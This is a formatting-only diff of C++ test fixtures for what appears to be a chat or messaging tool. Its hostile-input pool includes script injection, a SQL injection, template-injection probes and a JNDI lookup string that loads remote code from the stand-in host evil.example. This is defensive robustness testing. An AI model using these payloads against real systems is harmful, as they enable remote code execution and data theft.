@@ -91,7 +91,8 @@ const std::vector<std::string_view>& hostileTexts() {
         "</script><script>alert(\"x\")</script>"sv,
         "line1\nline2\r\nline3\rline4"sv,
         "separators\u2028line\u2029paragraph"sv,
-        "\xEF\xBB\xBF" "BOM at the start"sv,
+        "\xEF\xBB\xBF"
+        "BOM at the start"sv,
         "' OR 1=1 --"sv,
         "${jndi:ldap://evil.example/a}"sv,
         "{{7*7}} ${7*7} <%= 7*7 %>"sv,
@@ -108,16 +109,14 @@ const std::vector<std::string_view>& hostileTexts() {
     return pool;
 }
 
-std::string_view loneSurrogateText() {
-    return "lone surrogate here: [\xED\xA0\x80] (sent as \\ud800)"sv;
-}
+std::string_view loneSurrogateText() { return "lone surrogate here: [\xED\xA0\x80] (sent as \\ud800)"sv; }
 
 const std::string& hundredKilobyteText() {
     static const std::string text = [] {
         std::string s;
         s.reserve(102400);
-        const std::string_view words[] = {"Очень "sv, "длинное "sv, "сообщение "sv, "very "sv, "long "sv,
-                                          "message "sv, "😀 "sv, "<b>bold</b> "sv, "=SUM(A1) "sv, "\n"sv};
+        const std::string_view words[] = {"Очень "sv,   "длинное "sv, "сообщение "sv,   "very "sv,     "long "sv,
+                                          "message "sv, "😀 "sv,       "<b>bold</b> "sv, "=SUM(A1) "sv, "\n"sv};
         std::size_t k = 0;
         while (true) {
             const std::string_view w = words[k % 10];
@@ -170,12 +169,8 @@ const std::vector<std::string_view>& userNames() {
 
 const std::vector<std::string_view>& renamedNames() {
     static const std::vector<std::string_view> names = {
-        "Иван Петров-Водкин"sv,
-        "Мария Сидорова"sv,
-        "</title>Ivan"sv,
-        "Ольга (в отпуске 🌴)"sv,
-        "Yulia K."sv,
-        "Николай Н."sv,
+        "Иван Петров-Водкин"sv,  "Мария Сидорова"sv, "</title>Ivan"sv,
+        "Ольга (в отпуске 🌴)"sv, "Yulia K."sv,       "Николай Н."sv,
     };
     return names;
 }
@@ -198,7 +193,7 @@ const std::vector<std::string_view>& chatTitles() {
 }
 
 const std::vector<std::string_view>& serviceKinds() {
-    static const std::vector<std::string_view> kinds = {"EXIT"sv, "ADD"sv,  "REMOVE"sv,         "JOIN"sv,
+    static const std::vector<std::string_view> kinds = {"EXIT"sv,  "ADD"sv,  "REMOVE"sv,         "JOIN"sv,
                                                         "TITLE"sv, "ICON"sv, "ZZZ_FUTURE_KIND"sv};
     return kinds;
 }
